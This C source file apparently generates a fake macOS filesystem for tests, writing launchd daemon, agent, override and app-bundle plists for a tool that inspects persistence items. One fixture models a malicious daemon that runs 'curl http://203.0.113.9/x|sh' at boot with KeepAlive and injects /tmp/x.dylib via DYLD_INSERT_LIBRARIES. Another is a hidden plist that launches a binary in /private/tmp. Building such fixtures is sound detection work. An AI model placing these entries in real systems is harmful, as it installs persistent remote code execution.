#include "make_macos.h"

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

#include "harness.h"
#include "make_plist.h"

#define KEY(key, value) "<key>" key "</key>" value
#define TEXT(text)      "<string>" text "</string>"

static const struct {
    const char *path;
    bool        binary;
    const char *value;
} files[] = {
    {"System/Library/LaunchDaemons/com.apple.sshd.plist",                          false,
     "<dict>" KEY("Label",                                                                                                                     TEXT("com.apple.sshd")) KEY("Program",   TEXT("/usr/libexec/sshd"))
         KEY("Disabled", "<true/>") KEY("Sockets", "<dict>" KEY("Listeners", "<dict/>") "</dict>")
             KEY("inetdCompatibility", "<dict>" KEY("Wait", "<false/>") "</dict>") "</dict>"},
    {"Library/LaunchDaemons/com.apple.updated.plist",                                                    true,
     "<dict>" KEY("Label",                                                TEXT("com.apple.update"))
         KEY("ProgramArguments",
     "<array>" TEXT("/bin/sh") TEXT("-c")
                 TEXT("curl http://203.0.113.9/x|sh") "</array>") KEY("RunAtLoad", "<true/>")
             KEY("KeepAlive", "<dict>" KEY("SuccessfulExit", "<false/>") "</dict>") KEY(
                 "EnvironmentVariables", "<dict>" KEY("DYLD_INSERT_LIBRARIES", TEXT("/tmp/x.dylib")) "</dict>") "</dict>"},
    {"Library/LaunchDaemons/.hidden.plist",                                                                            true,
     "<dict>" KEY("Label",                               TEXT("hidden")) KEY("Program",                                                                                                                                                              TEXT("/private/tmp/.x")) "</dict>"},
    {"Library/LaunchDaemons/com.example.old.plist.disabled", false,
     "<dict>" KEY("Label", TEXT("com.example.old")) KEY("Program",  TEXT("/opt/old")) "</dict>"},
    {"Library/LaunchDaemons/noext",                                  false,
     "<dict>" KEY("Label",                                                      TEXT("noext")) KEY("Program",              TEXT("/opt/noext")) "</dict>"},
    {"Library/LaunchAgents/com.example.agent.plist",                                               false,
     "<dict>" KEY("Label",                                       TEXT("com.example.agent")) KEY("Program",TEXT("/opt/agent"))
         KEY("StartInterval", "<integer>300</integer>") "</dict>"},
    {"Users/alice/Library/LaunchAgents/com.alice.plist",                                                         true,
     "<dict>" KEY("Label",                                                TEXT("com.alice")) KEY("ProgramArguments",
     "<array>" TEXT("id") "</array>")
         KEY("WatchPaths", "<array>" TEXT("/Users/alice") "</array>")
             KEY("StartCalendarInterval", "<dict>" KEY("Hour", "<integer>3</integer>") "</dict>")
                 KEY("Umask", "<integer>18</integer>") KEY("UserName", TEXT("alice"))
                     KEY("StandardOutPath", TEXT("/dev/null")) "</dict>"},
    {"private/var/root/Library/LaunchAgents/root.plist",                                      false,
     "<dict>" KEY("Label",                                  TEXT("root")) KEY("Program",                               TEXT("/bin/sh")) "</dict>"},
    {"System/Volumes/Data/Library/LaunchDaemons/com.example.data.plist",                               false,
     "<dict>" KEY("Label",                                                                                                                     TEXT("com.example.data")) KEY("Program",                                                                              TEXT("/bin/sh")) "</dict>"},
    {"Applications/Foo.app/Contents/Library/LaunchDaemons/foo.helper.plist",                                         false,
     "<dict>" KEY("Label",                                                TEXT("foo.helper")) KEY("BundleProgram",                           TEXT("Contents/MacOS/helper"))
         KEY("AssociatedBundleIdentifiers", TEXT("foo")) "</dict>"},
    {"Applications/Foo.app/Contents/Library/LoginItems/L.app/Contents/Info.plist",                                   true,
     "<dict>" KEY("CFBundleIdentifier",                                                                            TEXT("foo.login"))
         KEY("CFBundleExecutable",                                                                                                TEXT("L")) "</dict>"},
    {"Applications/Utilities/Bar.app/Contents/XPCServices/x.xpc/Contents/Info.plist",                                     false,
     "<dict>" KEY("CFBundleIdentifier",                        TEXT("bar.xpc"))
         KEY("CFBundleExecutable",                                                               TEXT("x")) "</dict>"},
    {"private/var/db/com.apple.xpc.launchd/disabled.plist",                                  false,
     "<dict>" KEY("com.apple.sshd",                                                       "<false/>") KEY("com.example.old",                                      "<true/>") "</dict>"},
    {"private/var/db/com.apple.xpc.launchd/disabled.501.plist",           true,
     "<dict>" KEY("com.example.agent",                                                                                                                     "<true/>") "</dict>"},
    {"private/var/db/launchd.db/com.apple.launchd.peruser.502/overrides.plist",                                                                            true,
     "<dict>" KEY("com.example.agent",                  "<dict>" KEY("Disabled",                                                                                                                                                              "<false/>") "</dict>") "</dict>"},
    {"System/Library/CoreServices/SystemVersion.plist",                                   false,
     "<dict>" KEY("ProductVersion",                                                                     TEXT("14.5")) "</dict>"                                },
};

static void make_name(const char *dir, const char *name)
{
    char *value = NULL;

    if (asprintf(&value,
                 "<dict>" KEY("System",
                              "<dict>" KEY("System", "<dict>" KEY("ComputerName", TEXT("%s"))
                                                         KEY("HostName", TEXT("%s")) "</dict>")
                                  KEY("Network", "<dict/>") "</dict>") "</dict>",
                 name, name) < 0)
        abort();
    make_plist(dir, "Library/Preferences/SystemConfiguration/preferences.plist", true, value);
    free(value);
}

void make_macos(const char *dir, const char *name)
{
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++)
        make_plist(dir, files[i].path, files[i].binary, files[i].value);
    make_name(dir, name);
    harness_write(dir, "Library/LaunchDaemons/.DS_Store", "\0\0\0\1Bud1", 8);
    harness_write_text(dir, "Applications/Foo.app/Contents/MacOS/helper", "x");
    harness_write_text(dir, "bin/sh", "x");
    harness_write_text(dir, "usr/bin/id", "x");
}
